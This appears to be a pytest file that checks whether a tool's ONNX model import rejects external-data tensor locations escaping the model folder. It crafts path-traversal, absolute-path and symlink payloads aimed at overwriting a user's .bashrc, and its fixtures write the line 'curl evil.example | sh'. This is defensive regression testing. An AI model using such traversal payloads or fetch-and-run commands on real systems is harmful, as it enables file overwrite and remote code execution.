"""`models import` of an ONNX file from elsewhere: every external data location, of every
tensor wherever it sits, is checked to lie in the model's folder before anything is read,
copied or written (an unused initializer naming ../../../.bashrc overwrote the file
beside the home)."""

from __future__ import annotations

import os
from pathlib import Path

import onnx
import pytest
from onnx import TensorProto, helper

from engine.classifiers.onnx import external_data_files, load_onnx
from engine.core.untrusted import UntrustedFileError
from engine.models.importing import import_classifier
from tests.engine.classifiers.test_onnx import SHAPE, Net, export
from tests.engine.cli.test_cli import cli
from tests.engine.models.test_importing import left_behind, user_home  # noqa: F401

BASHRC = b"# the victim's shell start-up file\nalias ls='ls --color'\n"


def external(name: str, location: str) -> TensorProto:
    """A float tensor whose values are said to lie in `location`, as onnx.save_model
    writes them, but pointing wherever the attacker likes."""
    t = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[4])
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return t


def plant(model: onnx.ModelProto, where: str, location: str) -> None:
    """Put an external tensor naming `location` at `where` in the model."""
    t = external(f"planted_{where}", location)
    g = model.graph
    if where == "initializer":  # unused: onnxruntime never opens it
        g.initializer.append(t)
    elif where == "sparse_initializer":
        idx = helper.make_tensor("idx", TensorProto.INT64, [1], [0])
        g.sparse_initializer.append(helper.make_sparse_tensor(t, idx, [8]))
    elif where == "attribute":
        g.node.append(helper.make_node("Constant", [], ["c_out"], value=t))
    elif where == "subgraph":
        branch = helper.make_graph(
            [], "branch", [], [helper.make_tensor_value_info(t.name, TensorProto.FLOAT, [4])], [t]
        )
        cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
        g.initializer.append(cond)
        g.node.append(
            helper.make_node("If", ["cond"], ["if_out"], then_branch=branch, else_branch=branch)
        )
    elif where == "function":
        fn = helper.make_function(
            "evil",
            "Planted",
            [],
            ["o"],
            [helper.make_node("Constant", [], ["o"], value=t)],
            [helper.make_opsetid("", 17)],
        )
        model.functions.append(fn)
    else:
        raise AssertionError(where)


def crafted(folder: Path, location: str, where: str = "initializer") -> Path:
    """A working classifier exported by torch, with one planted external tensor."""
    folder.mkdir(parents=True, exist_ok=True)
    path = export(Net(), folder / "model.onnx")
    model = onnx.load(str(path))
    plant(model, where, location)
    onnx.save(model, str(path))
    return path


def test_an_unused_initializer_pointing_outside_writes_nothing(user_home: Path, tmp_path):  # noqa: F811
    """The attack as found: the model comes in a download folder with its own .bashrc
    three levels up; its location, followed from the staging folder, lands on the
    .bashrc beside the home."""
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / ".bashrc").write_bytes(b"curl evil.example | sh\n" * 4)
    victim = user_home.parent / ".bashrc"
    victim.write_bytes(BASHRC)
    before = victim.stat().st_mtime_ns
    model = crafted(downloads / "x" / "a" / "b", "../../../.bashrc")
    with pytest.raises(UntrustedFileError) as e:
        import_classifier(model, "mnist", name="evil")
    msg = str(e.value)
    assert "external_data location of tensor 'planted_initializer'" in msg
    assert "'../../../.bashrc'" in msg and "lies outside" in msg and "\n" not in msg
    assert victim.read_bytes() == BASHRC and victim.stat().st_mtime_ns == before
    assert left_behind(user_home) == []


@pytest.mark.parametrize(
    "where", ["initializer", "sparse_initializer", "attribute", "subgraph", "function"]
)
@pytest.mark.parametrize("kind", ["dotdot", "absolute", "symlink"])
def test_every_tensor_location_is_checked_before_onnxruntime_reads(tmp_path, where, kind):
    secret = tmp_path / "secret.bin"
    secret.write_bytes(b"s" * 64)
    folder = tmp_path / "m"
    folder.mkdir()
    location = {
        "dotdot": "../secret.bin",
        "absolute": str(secret),
        "symlink": "weights.data",
    }[kind]
    if kind == "symlink":
        os.symlink(secret, folder / "weights.data")
    path = crafted(folder, location, where)
    with pytest.raises(
        UntrustedFileError,
        match=rf"external_data location of tensor 'planted_{where}' in .*model.onnx is ",
    ):
        external_data_files(path)
    with pytest.raises(
        UntrustedFileError, match="absolute path" if kind == "absolute" else "lies outside"
    ):
        load_onnx(path, SHAPE, 10, "mnist")


def test_a_location_in_a_subfolder_imports(user_home: Path, tmp_path):  # noqa: F811
    """External data in a folder below the model's is inside: it imports, and is copied
    to the same place below the stored model."""
    path = export(Net(), tmp_path / "ext.onnx", external=True)
    (data,) = external_data_files(path)
    (tmp_path / "w").mkdir()
    (tmp_path / data).rename(tmp_path / "w" / data)
    model = onnx.load(str(path), load_external_data=False)
    for t in model.graph.initializer:
        for e in t.external_data:
            if e.key == "location":
                e.value = f"w/{data}"
    onnx.save(model, str(path))
    card = import_classifier(path, "mnist", name="nested")
    assert set(card["files"]) == {"ext.onnx", f"w/{data}"}
    assert (user_home / "models" / "nested" / "w" / data).is_file()
    assert left_behind(user_home) == ["nested"]


def test_the_cli_refuses_it_in_one_line(home: Path, env: dict, tmp_path: Path):
    """Through the real command: exit 2, one `error:` line naming the tensor and the path,
    no traceback, and the .bashrc beside the home as it was."""
    victim = home.parent / ".bashrc"
    victim.write_bytes(BASHRC)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / ".bashrc").write_bytes(b"curl evil.example | sh\n" * 4)
    model = crafted(downloads / "x" / "a" / "b", "../../../.bashrc")
    p = cli(["models", "import", str(model), "--dataset", "mnist"], env, ok=False)
    assert p.returncode == 2, p.stderr
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: external_data location of tensor")
    assert "Traceback" not in p.stderr and victim.read_bytes() == BASHRC
    assert not (home / "models").exists() or not list((home / "models").iterdir())
